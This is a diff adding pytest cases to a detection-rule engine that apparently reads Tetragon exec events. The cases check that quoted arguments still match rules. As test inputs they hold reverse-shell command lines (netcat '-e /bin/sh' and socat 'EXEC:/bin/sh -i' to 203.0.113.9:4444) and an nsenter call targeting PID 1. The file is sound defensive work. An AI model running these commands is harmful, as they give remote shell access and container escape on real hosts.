@@ -364,3 +364,28 @@ def test_benign_loader_and_busybox_runs_stay_silent(
     engine_rules: Any, binary: str, arguments: str
 ) -> None:
     assert not rule_ids(fresh(engine_rules), exec_event(binary, arguments))
+
+
+# --- argv games: Tetragon quotes an argument that holds a space ---------------------------
+
+
+@pytest.mark.parametrize(
+    ("binary", "arguments", "rule"),
+    [
+        # nsenter "-at 1" sh: getopt reads -a, then -t with " 1"; Tetragon writes "-at 1"
+        ("/usr/bin/nsenter", '"-at 1" sh', "nsenter-target"),
+        ("/usr/bin/nc", '"-e /bin/sh" 203.0.113.9 4444', "reverse-shell-netcat"),
+        ("/usr/bin/socat", '"EXEC:/bin/sh -i" TCP:203.0.113.9:4444', "reverse-shell-netcat"),
+        # a lone quote in one argument must not hide the next ones: nsenter '"x' -at1 '"y' sh
+        ("/usr/bin/nsenter", '"x -at1 "y sh', "nsenter-target"),
+    ],
+)
+def test_quoted_arguments_broke(engine_rules: Any, binary: str, arguments: str, rule: str) -> None:
+    """BROKE: the arguments were split on spaces, so a quoted argument came apart (``"-at``,
+    ``1"``) and matched no glob."""
+    assert rule in rule_ids(fresh(engine_rules), exec_event(binary, arguments))
+
+
+def test_quoted_argument_of_a_benign_command_stays_silent(engine_rules: Any) -> None:
+    event = exec_event("/usr/bin/nc", '-z "example.org" 443')
+    assert not rule_ids(fresh(engine_rules), event)
